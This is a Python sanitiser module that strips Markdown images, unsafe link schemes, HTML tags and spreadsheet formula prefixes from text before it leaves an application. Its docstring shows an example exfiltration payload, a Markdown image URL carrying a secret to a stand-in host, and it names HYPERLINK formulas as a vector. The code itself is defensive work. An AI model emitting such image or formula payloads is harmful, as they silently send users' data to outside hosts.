"""Text from a model, a file or a person that cannot act where it is shown, on a page or in a file
that leaves Leaf. Pure.

Markdown can act without a click (a picture is fetched: `![](https://x/?d=secret)`) or on one (a
`data:` or `file:` link), and a cell of a spreadsheet when it is opened (`=HYPERLINK(…)`). A rule
that has to agree with a reader's parser about what is code would be fooled some day, so these rules
hold everywhere: they break the few character pairs without which no picture, no forbidden link and
no tag can begin.
"""

from __future__ import annotations

import html
import io
import re
from collections.abc import Iterator

JOINER = "\u2060"
"""Word joiner: invisible, without width; between two characters it keeps them from being Markdown
together."""

ALLOWED_SCHEMES = frozenset({"http", "https", "mailto"})


FORMULA = "^[=+@\\-\\t\\r\\n\uff1d\uff0b\uff0d\uff20]"
"""How a text begins that spreadsheets take for a formula (OWASP, CSV injection), as a regular
expression that DuckDB reads too."""
NUMBER = r"^[+-]?[0-9][0-9.,  ]*([eE][+-]?[0-9]+)?[ ]?%?$"
"""One that is a number all the same."""

_IMAGE = re.compile(r"!(?=\[)")
_EMPTY_LABEL = re.compile(r"!\[\](?=[(\[])")
_DESTINATION = re.compile(r"\](\(|:)|<(?=[A-Za-z&\\])")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
_OUTWARD = re.compile(r"(?:https?://|mailto:)[^\s\x00-\x1f\x7f]+", re.IGNORECASE)
_IGNORED = re.compile(r"[\x00-\x20\x7f-\xa0\u2028\u2029<>]+")
_ESCAPED = re.compile(r"\\(?=[!-/:-@\[-`{-~])")
_PICTURE = re.compile(r"\[[^\]]{0,1000}\][(\[]")
"""What follows the mark of a picture. One with a longer description is parted like what is none."""
_WEB_OR_MAIL = re.compile(r"(?:https?|mailto):", re.IGNORECASE | re.ASCII)
_AHEAD = 300
"""Characters of an address that are looked at for its scheme."""
_NO_SCHEME = re.compile(r"[\x00-\x20\x7f-\xa0\u2028\u2029<>A-Za-z0-9+.\-]*+(?![:&#\\\u212a\u0130])")
"""How an address begins that has no scheme and is no place on this page, however it is written:
what could be a scheme is followed by something that ends none and stands for nothing else."""
_TAG = re.compile(
    r"<(?=[A-Za-z/!?])(?!(?:https?://|mailto:)[^\s<>]*>)(?![Bb][Rr][ \t]*/?>[ \t]*\S)"
)
"""`<br>` does nothing but break a line, unless it ends one: it may begin a block of HTML then, in which
a fence is none."""
_LAST_BREAK = re.compile(r"(?<!\\)(?:<br[ \t]*/?>[ \t]*)+(?=[\r\n]|\Z)", re.IGNORECASE)
_FENCE = re.compile(r"[ \t]*+(`{3,}+|~{3,}+)[ \t]*+([\w+#.-]*+)[^`]*+$")
_OTHER_FENCE = re.compile(r"^[ \t>*+\-\d.)]*(?:``(?=`)|~~(?=~))", re.MULTILINE)
"""One that is not taken for a fence here, such as in a quote, and must be none for the reader."""
_FORMULA, _NUMBER = re.compile(FORMULA), re.compile(NUMBER)


def parted(text: str) -> str:
    """Markdown in which pictures are links and links lead only to the web or to mail."""
    text = _EMPTY_LABEL.sub("![picture]", text)
    text = _IMAGE.sub(_break_image, text)
    return _DESTINATION.sub(_break_link, text)


def harmless_markdown(document: str) -> str:
    """Markdown for any reader outside of Leaf: `parted`, and without HTML but `<br>`. Code in fences
    stays as it is, in a fence that nothing in it can close."""
    return "".join(_pieces(document))


def inert(cell: str) -> str:
    """Text of a cell that a spreadsheet does not take for a formula; a number stays one."""
    return f"'{cell}" if _FORMULA.match(cell) and not _NUMBER.match(cell) else cell


def allowed_address(address: str) -> bool:
    """Whether a link may lead there: the web, mail, or a place below this page's address."""
    scheme = _SCHEME.match(_plain_address(address))
    return scheme is None or scheme.group(1) in ALLOWED_SCHEMES


def leads_out(address: str) -> bool:
    """Whether a link leads to the web or to mail as it stands: for files, in which a place below
    the page's address would be one on the disk of whoever opens them."""
    return _OUTWARD.fullmatch(address) is not None and allowed_address(address)


def _pieces(document: str) -> Iterator[str]:
    text, code, fence, language = list[str](), list[str](), "", ""
    for line in io.StringIO(document, newline=""):  # whose lines are those of Markdown
        bare = line.strip()
        opening = None if fence else _FENCE.match(line.rstrip("\r\n"))
        if opening is not None:
            fence, language = opening[1], opening[2]
            yield _plain("".join(text))
            text = []
        elif fence and bare.startswith(fence) and not bare.strip(fence[0]):
            yield _fenced(code, language)
            code, fence = [], ""
        else:
            (code if fence else text).append(line)
    yield _fenced(code, language) if fence else _plain("".join(text))


def _plain(text: str) -> str:
    text = _TAG.sub("<" + JOINER, parted(_LAST_BREAK.sub("  ", text)))
    return _OTHER_FENCE.sub(lambda match: match.group() + JOINER, text)


def _fenced(code: list[str], language: str) -> str:
    inside = "".join(code).rstrip("\n")
    longest = max((len(run) for run in re.findall(r"`+", inside)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language}\n{inside}\n{fence}\n"


def _break_image(match: re.Match[str]) -> str:
    """`![a](u)` and `![a][r]` lose the mark and stay links; any other `![` keeps it but is
    parted."""
    return JOINER if _PICTURE.match(match.string, match.end()) else "!" + JOINER


def _break_link(match: re.Match[str]) -> str:
    """Part the opening of a link whose address has a scheme that is not allowed, so that it is
    drawn as text."""
    end = match.end()
    if _NO_SCHEME.match(match.string, end, end + _AHEAD) or _WEB_OR_MAIL.match(match.string, end):
        return match.group()
    # No scheme goes on behind these, so that no character is looked at for many addresses.
    stop = match.string.find("<" if match.group() == "<" else "]", end, end + _AHEAD)
    address = match.string[end : stop if stop >= 0 else end + _AHEAD]
    if _plain_address(address).startswith("#") and match.group() != "<":
        return (
            "]" + JOINER + match.group(1)
        )  # a link within the page leads nowhere, or poses as a mark
    if allowed_address(address):
        return match.group()
    if match.group() == "<":
        return "<" + JOINER
    return "]" + JOINER + match.group(1)


def _plain_address(address: str) -> str:
    """As a browser reads it."""
    return _IGNORED.sub("", html.unescape(_ESCAPED.sub("", address))).lower()
